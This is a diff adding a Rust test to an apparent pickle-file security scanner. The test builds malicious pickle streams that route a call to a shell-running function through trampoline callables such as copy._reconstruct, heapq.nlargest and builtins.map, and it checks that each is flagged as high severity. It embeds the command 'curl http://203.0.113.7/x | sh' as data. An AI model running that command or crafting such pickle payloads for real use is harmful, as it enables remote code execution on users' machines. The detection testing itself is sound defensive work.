@@ -632,3 +632,25 @@ fn a_constructor_that_acts_is_judged_by_what_it_is_given() {
         Builder::new().import("models.yolo", "Model").raw(b"}").text("nc").raw(b"K\x01s\x85R").stop();
     assert_eq!(worst(&config), None);
 }
+
+#[test]
+fn what_a_trampoline_calls_is_judged_like_a_direct_call() {
+    let command = "curl http://203.0.113.7/x | sh";
+    let run = || Builder::default().import("acme.shell", "run");
+    let listed = || Builder::default().raw(b"](").text(command).raw(b"e");
+    let given = || Builder::default().text(command).raw(b"\x85");
+    for (module, name, arguments) in [
+        ("torch._tensor", "_rebuild_from_type_v2", run().import("torch", "Tensor").raw(&given().0).raw(b"}")),
+        ("copy", "_reconstruct", Builder::default().raw(b"K\0N").raw(&run().0).raw(&given().0)),
+        ("heapq", "nlargest", Builder::default().raw(b"K\x01").raw(&listed().0).raw(&run().0)),
+        ("sklearn.feature_extraction.text", "_analyze", Builder::default().text(command).raw(&run().0)),
+        ("copyreg", "_reconstructor", run().raw(&run().0).text(command)),
+        ("builtins", "map", run().raw(&listed().0)),
+    ] {
+        let stream = Builder::new().import(module, name).raw(b"(").raw(&arguments.0).raw(b"tR").stop();
+        reports(&stream, "pickle-unknown-callable", Severity::High, "acme.shell.run");
+    }
+    let plain = Builder::new().import("copyreg", "_reconstructor").raw(b"(");
+    let plain = plain.import("sklearn.dummy", "DummyClassifier").import("builtins", "object").raw(b"NtR");
+    assert_eq!(worst(&plain.stop()), None);
+}
